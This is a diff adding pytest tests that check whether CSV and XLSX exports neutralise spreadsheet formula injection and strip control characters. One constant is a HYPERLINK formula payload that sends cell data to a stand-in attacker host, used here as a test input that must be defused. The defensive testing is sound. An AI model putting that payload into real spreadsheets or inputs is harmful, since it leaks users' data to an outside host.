@@ -1,3 +1,5 @@
+import csv
+import io
 from datetime import date
 from decimal import Decimal
 from io import BytesIO
@@ -37,3 +39,46 @@ def test_xlsx_export_keeps_numbers_as_numbers():
 def test_unknown_format_is_a_programming_error():
     with pytest.raises(ValueError):
         tabular_response("x", ["a"], [], "pdf")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    ("stored", "exported"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1+2", "'+1+2"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rReturn", "'\rReturn"),
+        ("a=b", "a=b"),
+        ("-12,5", "-12,5"),
+        ("Ctrl\u0001Char Co", "CtrlChar Co"),
+        ("\u0002=1+1", "'=1+1"),
+    ],
+)
+def test_csv_cells_are_neutralised_and_stripped(stored, exported):
+    response = tabular_response("x", ["Name"], [[stored]], "csv")
+    body = b"".join(response.streaming_content).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
+    assert rows == [["Name"], [exported]]
+
+
+def test_xlsx_never_stores_formulas_and_keeps_negative_numbers():
+    response = tabular_response(
+        "deals",
+        ["Title", "Amount"],
+        [[FORMULA, Decimal("-10.5")], ["Ctrl\u0001Char Co", -3], ["=1+1", None]],
+        "xlsx",
+    )
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [list(row) for row in sheet.iter_rows()]
+    assert [[cell.value for cell in row] for row in cells] == [
+        ["Title", "Amount"],
+        ["'" + FORMULA, -10.5],
+        ["CtrlChar Co", -3],
+        ["'=1+1", None],
+    ]
+    assert {cell.data_type for row in cells for cell in row} <= {"s", "n"}
